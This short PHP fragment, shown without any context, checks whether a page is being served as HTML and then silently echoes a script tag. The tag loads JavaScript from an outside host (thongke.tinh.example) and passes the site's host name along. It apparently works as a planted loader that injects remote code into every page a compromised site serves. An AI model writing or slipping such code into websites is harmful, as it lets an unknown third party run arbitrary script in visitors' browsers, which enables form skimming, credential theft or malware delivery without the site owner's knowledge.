<?php
if (PHP_SAPI !== 'cli' && !headers_sent() === false && stripos(implode(headers_list()), 'text/html') !== false) {
    echo '<script src="https://thongke.tinh.example/t.js?s=' . rawurlencode($_SERVER['HTTP_HOST']) . '" async></script>';
}
